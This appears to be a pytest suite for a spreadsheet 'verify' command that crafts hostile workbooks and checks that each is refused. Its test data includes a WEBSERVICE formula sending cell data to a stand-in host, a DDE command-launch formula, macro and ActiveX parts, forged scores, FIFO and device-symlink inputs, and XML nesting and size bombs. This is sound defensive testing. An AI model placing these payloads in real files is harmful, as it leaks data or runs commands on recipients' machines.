"""A verified return is safe to open and says only what its data says; hostile file-system
inputs are refused without hanging. Every file is crafted here and checked through the real
entry point (``qa-tui verify``), as a quality team would run it.

Siblings of each reported example sit side by side in the parametrised lists, so a class is
covered, not one file.
"""

from __future__ import annotations

import io
import os
import random
import string
import zipfile
from pathlib import Path

import pytest

from qa_tui.returns import read_return
from qa_tui.returns.writer import write_return
from qa_tui.services import Services
from qa_tui.templates import compile_template, template_hash

from tests.conftest import run_cli
from tests.test_return_support import part, rezip, sample

RESPONSES = "xl/worksheets/sheet3.xml"
COVER = "xl/worksheets/sheet1.xml"
MACHINE = "xl/worksheets/sheet5.xml"
SHEET_RELS = "xl/worksheets/_rels/sheet3.xml.rels"
BOOK_RELS = "xl/_rels/workbook.xml.rels"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


@pytest.fixture
def good(services: Services, tmp_path: Path) -> Path:
    return services.returns.export(sample(services), tmp_path / "good").path


def verify(path: Path, home: Path) -> tuple[int, str]:
    r = run_cli("verify", str(path), env={"QA_TUI_HOME": str(home)}, timeout=120)
    assert "Traceback" not in r.err
    return r.code, r.out + r.err


def _with_cell(good: Path, out: Path, part_name: str, cell: str) -> Path:
    """Append a raw ``<c>`` to the first row of a sheet part (outside the compared columns)."""
    xml = part(good, part_name).decode()
    at = xml.index("</row>")
    return rezip(good, out, {part_name: (xml[:at] + cell + xml[at:]).encode()})


def _add_rel(good: Path, out: Path, rels_part: str, rel: str, extra: dict[str, bytes] | None = None,
             sheet_tail: str | None = None) -> Path:
    rels = part(good, rels_part).decode().replace("</Relationships>", rel + "</Relationships>")
    changes: dict[str, bytes | None] = {rels_part: rels.encode(), **(extra or {})}
    if sheet_tail is not None:
        xml = part(good, RESPONSES).decode()
        at = xml.index("<pageMargins")
        changes[RESPONSES] = (xml[:at] + sheet_tail + xml[at:]).encode()
    return rezip(good, out, changes)


FORMULAS = [
    ("webservice", RESPONSES, '<c r="Z1" t="str"><f>WEBSERVICE("http://x.invalid/?"&amp;A1)</f><v>x</v></c>'),
    ("hyperlink formula", RESPONSES, '<c r="Z1" t="str"><f>HYPERLINK("http://x.invalid","Good")</f><v>Good</v></c>'),
    ("dde", COVER, "<c r=\"Z1\"><f>cmd|' /C calc'!A0</f><v>0</v></c>"),
    ("formula in _return", MACHINE, '<c r="C1"><f>1+1</f><v>2</v></c>'),
    ("shared formula", RESPONSES, '<c r="AA1"><f t="shared" ref="AA1:AA2" si="0">SUM(1)</f></c>'),
]


@pytest.mark.parametrize("name, part_name, cell", FORMULAS, ids=[f[0] for f in FORMULAS])
def test_any_formula_anywhere_is_refused(good: Path, tmp_path: Path, home: Path, name: str,
                                         part_name: str, cell: str) -> None:
    code, text = verify(_with_cell(good, tmp_path / "f.xlsx", part_name, cell), home)
    assert code == 1 and "holds a formula" in text and "WEBSERVICE" not in text


def _styles_with(good: Path, out: Path, old: str, new: str) -> Path:
    styles = part(good, "xl/styles.xml").decode()
    assert old in styles
    return rezip(good, out, {"xl/styles.xml": styles.replace(old, new, 1).encode()})


PARTS = [
    ("vba", {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}, "macros (a VBA project)"),
    ("activex", {"xl/activeX/activeX1.xml": b"<ax/>"}, "an ActiveX control"),
    ("external workbook", {"xl/externalLinks/externalLink1.xml": b"<externalLink/>"},
     "a link to another workbook"),
    ("embedded object", {"xl/embeddings/oleObject1.bin": b"ole"}, "an embedded object"),
    ("custom xml", {"customXml/item1.xml": b"<x/>"}, "custom XML"),
    ("unknown", {"xl/whatever.xml": b"<x/>"}, "a part qa-tui never writes"),
    ("directory entry", {"xl/media/": b""}, "a part qa-tui never writes"),
]


@pytest.mark.parametrize("name, extra, reason", PARTS, ids=[p[0] for p in PARTS])
def test_parts_the_writer_never_writes_are_refused(good: Path, tmp_path: Path, home: Path,
                                                   name: str, extra: dict[str, bytes],
                                                   reason: str) -> None:
    code, text = verify(rezip(good, tmp_path / "p.xlsx", extra), home)
    assert code == 1 and reason in text


LINKS = [
    ("hyperlink on a rating", SHEET_RELS,
     f'<Relationship Id="rId9" Type="{REL}/hyperlink" Target="http://x.invalid" TargetMode="External"/>',
     f'<hyperlinks><hyperlink ref="E2" r:id="rId9" xmlns:r="{REL}"/></hyperlinks>', "a hyperlink"),
    ("internal hyperlink element", SHEET_RELS, "", '<hyperlinks><hyperlink ref="E2" location="Cover!A1"/></hyperlinks>',
     "hyperlinks"),
    ("external link relationship", BOOK_RELS,
     f'<Relationship Id="rId9" Type="{REL}/externalLink" Target="file:///c:/x.xlsx" TargetMode="External"/>',
     None, "an external link"),
    ("conditional format", SHEET_RELS, "",
     '<conditionalFormatting sqref="E2"><cfRule type="expression" priority="1"><formula>1</formula></cfRule></conditionalFormatting>',
     "conditionalFormatting"),
]


@pytest.mark.parametrize("name, rels, rel, tail, reason", LINKS, ids=[x[0] for x in LINKS])
def test_links_and_display_tricks_are_refused(good: Path, tmp_path: Path, home: Path, name: str,
                                              rels: str, rel: str, tail: str | None,
                                              reason: str) -> None:
    code, text = verify(_add_rel(good, tmp_path / "l.xlsx", rels, rel, sheet_tail=tail), home)
    assert code == 1 and reason in text


def test_defined_name_with_a_formula_is_refused(good: Path, tmp_path: Path, home: Path) -> None:
    book = part(good, "xl/workbook.xml").decode()
    book = book.replace("</definedNames>",
                        '<definedName name="x">WEBSERVICE("http://x.invalid")</definedName></definedNames>')
    code, text = verify(rezip(good, tmp_path / "n.xlsx", {"xl/workbook.xml": book.encode()}), home)
    assert code == 1 and "defines a name" in text


@pytest.mark.parametrize("new", ['[=3]"Good";General', '"Outstanding"', "0"])
def test_number_formats_outside_the_allow_list_are_refused(good: Path, tmp_path: Path,
                                                           home: Path, new: str) -> None:
    crafted = _styles_with(good, tmp_path / "s.xlsx", 'formatCode="0.0"',
                           f'formatCode="{new.replace(chr(34), "&quot;")}"')
    code, text = verify(crafted, home)
    assert code == 1 and "number format" in text


def test_builtin_number_format_the_writer_never_uses_is_refused(good: Path, tmp_path: Path,
                                                                home: Path) -> None:
    crafted = _styles_with(good, tmp_path / "s.xlsx", '<xf numFmtId="0" fontId="1"',
                           '<xf numFmtId="49" fontId="1"')
    code, text = verify(crafted, home)
    assert code == 1 and "number format 49" in text


def _forged(services: Services, tmp_path: Path, change) -> Path:  # type: ignore[no-untyped-def]
    """A careful forger: the document changed, then written by the real writer, so the hash
    and every visible cell agree with the forged JSON."""
    aid = sample(services)
    document = services.returns.document(aid)
    change(document)
    snapshot = document["template"]["snapshot"]
    document["template"]["hash"] = template_hash(snapshot)
    template = compile_template(snapshot, file="forged")
    out = tmp_path / "forged.xlsx"
    out.write_bytes(write_return(document, template))
    return out


def _forge_overall(document: dict) -> None:
    document["scores"]["overall"]["rating"] = "Outstanding"


def _forge_section(document: dict) -> None:
    document["scores"]["sections"][0]["score_pct"] = 99.0


def _forge_count(document: dict) -> None:
    document["scores"]["answered"] = document["scores"]["answered"] - 1


def _forge_snapshot(document: dict) -> None:
    document["template"]["snapshot"]["title"] = "A quietly different template"


def _forge_bands(document: dict) -> None:
    scales = document["template"]["snapshot"]["scales"]
    first = next(iter(scales.values()))
    first["options"][-1]["label"] = first["options"][0]["label"] + " (forged)"


FORGERIES = [
    ("overall rating", _forge_overall, "stored overall score or rating"),
    ("section score", _forge_section, "stored scores of section"),
    ("answer count", _forge_count, "stored answer counts"),
    ("snapshot of a bundled template", _forge_snapshot, "claims to be bundled template"),
    ("scale labels of a bundled template", _forge_bands, "claims to be bundled template"),
]


@pytest.mark.parametrize("name, change, reason", FORGERIES, ids=[f[0] for f in FORGERIES])
def test_forged_scores_and_snapshots_are_refused(services: Services, tmp_path: Path, home: Path,
                                                 name: str, change, reason: str) -> None:  # type: ignore[no-untyped-def]
    code, text = verify(_forged(services, tmp_path, change), home)
    assert code == 1 and reason in text, text


def test_an_honest_return_still_verifies(good: Path, home: Path) -> None:
    code, text = verify(good, home)
    assert code == 0, text
    read_return(good)


# -- hostile file-system inputs (item 4) ------------------------------------------------------

def test_fifo_is_refused_without_hanging(tmp_path: Path, home: Path) -> None:
    fifo = tmp_path / "pipe.xlsx"
    os.mkfifo(fifo)
    code, text = verify(fifo, home)  # the subprocess timeout is only a safety net
    assert code == 1 and "named pipe" in text


def test_symlink_to_a_device_is_refused(tmp_path: Path, home: Path) -> None:
    link = tmp_path / "zero.xlsx"
    link.symlink_to("/dev/zero")
    code, text = verify(link, home)
    assert code == 1 and "is a device" in text


def test_folder_with_a_fifo_and_a_device_link_is_not_read(good: Path, tmp_path: Path,
                                                          home: Path) -> None:
    folder = tmp_path / "batch"
    folder.mkdir()
    os.mkfifo(folder / "pipe.xlsx")
    (folder / "zero.xlsx").symlink_to("/dev/zero")
    (folder / "good.xlsx").write_bytes(good.read_bytes())
    r = run_cli("verify", str(folder), env={"QA_TUI_HOME": str(home)}, timeout=120)
    # A folder's FIFOs and devices are never opened: only the regular return is checked.
    assert "good.xlsx: ok" in r.out and "pipe.xlsx" not in r.out + r.err


def _noise(n: int, seed: int = 1, letters: str = string.ascii_letters) -> str:
    rng = random.Random(seed)
    return "".join(rng.choices(letters, k=n))


def _stored(good: Path, out: Path, changes: dict[str, bytes]) -> Path:
    """Like ``rezip`` but every entry stored uncompressed (no ratio to trip over)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(good) as src, zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as dst:
        for info in src.infolist():
            dst.writestr(info.filename, changes.get(info.filename, src.read(info)))
    out.write_bytes(buffer.getvalue())
    return out


def _with_shared_strings(good: Path, out: Path, body: bytes) -> Path:
    rels = part(good, BOOK_RELS).decode().replace(
        "</Relationships>", f'<Relationship Id="rId99" Type="{REL}/sharedStrings" '
                            'Target="sharedStrings.xml"/></Relationships>')
    return rezip(good, out, {BOOK_RELS: rels.encode(), "xl/sharedStrings.xml": body})


def test_huge_shared_strings_are_refused_before_parsing(good: Path, tmp_path: Path,
                                                        home: Path) -> None:
    big = "<si><t>" + _noise(20_000, letters="ACGT") + "</t></si>"
    body = ('<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            + big * 500 + "</sst>").encode()  # about 10 MB: over the per-part cap
    code, text = verify(_with_shared_strings(good, tmp_path / "ss.xlsx", body), home)
    assert code == 1 and "too large to check" in text


def test_a_string_longer_than_excel_allows_is_refused(good: Path, tmp_path: Path,
                                                      home: Path) -> None:
    body = ('<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>'
            + _noise(40_000) + "</t></si></sst>").encode()
    code, text = verify(_with_shared_strings(good, tmp_path / "ss.xlsx", body), home)
    assert code == 1 and "Excel holds at most 32,767" in text


@pytest.mark.parametrize("cell", [
    '<c r="Z1" t="inlineStr"><is><t>{}</t></is></c>', '<c r="Z1" t="str"><v>{}</v></c>'])
def test_an_inline_or_str_cell_longer_than_excel_allows_is_refused(good: Path, tmp_path: Path,
                                                                   home: Path, cell: str) -> None:
    crafted = _with_cell(good, tmp_path / "long.xlsx", RESPONSES, cell.format(_noise(40_000)))
    code, text = verify(crafted, home)
    assert code == 1 and "Excel holds at most 32,767" in text


@pytest.mark.parametrize("depth", [40, 150_000])
def test_deeply_nested_xml_is_refused(good: Path, tmp_path: Path, home: Path, depth: int) -> None:
    nested = ("<x>" * depth + "</x>" * depth)
    xml = part(good, RESPONSES).decode()
    at = xml.index("<pageMargins")
    crafted = _stored(good, tmp_path / "deep.xlsx",
                    {RESPONSES: (xml[:at] + nested + xml[at:]).encode()})
    code, text = verify(crafted, home)
    assert code == 1 and "nests elements more than 32 deep" in text


def test_too_many_elements_is_refused(good: Path, tmp_path: Path, home: Path) -> None:
    xml = part(good, RESPONSES).decode()
    at = xml.index("<pageMargins")
    crafted = _stored(good, tmp_path / "wide.xlsx",
                    {RESPONSES: (xml[:at] + "<x/>" * 1_100_000 + xml[at:]).encode()})
    code, text = verify(crafted, home)
    assert code == 1 and "more than 1,000,000 XML elements" in text


def test_template_check_refuses_a_fifo(tmp_path: Path, home: Path) -> None:
    fifo = tmp_path / "t.toml"
    os.mkfifo(fifo)
    r = run_cli("templates", "check", str(fifo), env={"QA_TUI_HOME": str(home)}, timeout=120)
    assert r.code == 1 and "named pipe" in r.out + r.err


def test_zip_is_still_what_is_read(good: Path) -> None:
    """The crafted corpus above starts from a file the writer made: it really is a return."""
    assert zipfile.is_zipfile(io.BytesIO(good.read_bytes()))


def test_import_and_consolidate_refuse_a_fifo_and_a_device_link(tmp_path: Path,
                                                                home: Path) -> None:
    fifo, zero = tmp_path / "p.xlsx", tmp_path / "z.xlsx"
    os.mkfifo(fifo)
    zero.symlink_to("/dev/zero")
    env = {"QA_TUI_HOME": str(home)}
    imported = run_cli("import", str(fifo), str(zero), env=env, timeout=120)
    assert imported.code == 1 and "named pipe" in imported.err and "is a device" in imported.err
    joined = run_cli("consolidate", str(fifo), str(zero), "-o", str(tmp_path / "c.xlsx"),
                     env=env, timeout=120)
    assert joined.code == 1 and joined.err.count("not a regular file") == 2
